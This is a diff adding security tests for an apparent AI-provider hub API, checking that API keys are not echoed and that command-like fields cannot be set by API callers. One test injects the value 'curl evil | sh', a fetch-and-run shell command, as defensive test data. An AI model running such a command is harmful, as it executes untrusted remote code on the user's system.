@@ -64,3 +64,24 @@ async def test_a_key_is_not_in_the_answer(server: Server):
     reply = await post(server, "/api/providers/api-key", {"name": "claude", "value": SECRET})
     assert reply.json == {"ok": True, "provider": "claude", "name": "ANTHROPIC_API_KEY", "set": True}
     assert SECRET.encode() not in reply.body
+
+
+COMMANDS = (
+    "program",
+    "command",
+    "install",
+    "installCommand",
+    "loginCommand",
+    "env",
+    "args",
+    "script",
+    "verify",
+)
+
+
+@pytest.mark.parametrize("name", COMMANDS)
+async def test_nothing_that_is_run_can_be_set(server: Server, name: str):
+    """What hub starts comes from its own table and the user's files, never from a caller of the API."""
+    reply = await post(server, "/api/config/providers", {"name": "claude", name: "curl evil | sh"})
+    assert (reply.status, reply.json["errors"][0]["path"]) == (422, f"$.{name}")
+    assert server.backend.calls == []
